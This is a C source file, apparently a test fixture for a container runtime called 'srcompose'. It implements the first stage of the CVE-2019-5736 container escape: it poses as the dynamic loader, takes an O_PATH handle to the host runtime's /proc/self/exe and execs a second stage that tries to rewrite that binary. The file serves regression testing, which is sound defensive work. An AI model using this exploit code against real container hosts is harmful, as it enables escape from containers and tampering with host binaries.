// SPDX-License-Identifier: GPL-2.0-or-later
/* The first stage of CVE-2019-5736, for tests: an image ships this program as the dynamic loader
 * (/lib64/ld-linux-x86-64.so.2), the path the srcompose binary names as its ELF interpreter. When
 * a container's "#!/proc/self/exe" script is executed by a process that srcompose started, the
 * kernel runs srcompose's binary with this as its loader, inside the container: /proc/self/exe is
 * then whatever file srcompose ran from. The thief takes an O_PATH fd of it (fd 3) and hands it to
 * the second stage, `/bin/probe rewrite-exe 3 /tmp/result`, which tries to open it for writing
 * once srcompose's process on the host is gone. No libc: a loader gets no libc set up for it. */
#define _GNU_SOURCE
#include <fcntl.h>
#include <sys/syscall.h>

static long syscall3(long number, long a, long b, long c) {
  long result;
  __asm__ volatile("syscall"
                   : "=a"(result)
                   : "a"(number), "D"(a), "S"(b), "d"(c)
                   : "rcx", "r11", "memory");
  return result;
}

__attribute__((force_align_arg_pointer)) void _start(void) {
  long fd = syscall3(SYS_open, (long)"/proc/self/exe", O_PATH, 0);
  /* Fd 3 exactly (dup2 over whatever is there), so that the second stage knows where to look. */
  if (fd >= 0 && fd != 3) syscall3(SYS_dup2, fd, 3, 0);
  static char* const argv[] = {"probe", "rewrite-exe", "3", "/tmp/result", 0};
  static char* const envp[] = {0};
  syscall3(SYS_execve, (long)"/bin/probe", (long)argv, (long)envp);
  syscall3(SYS_exit_group, 127, 0, 0);
  for (;;) {
  }
}
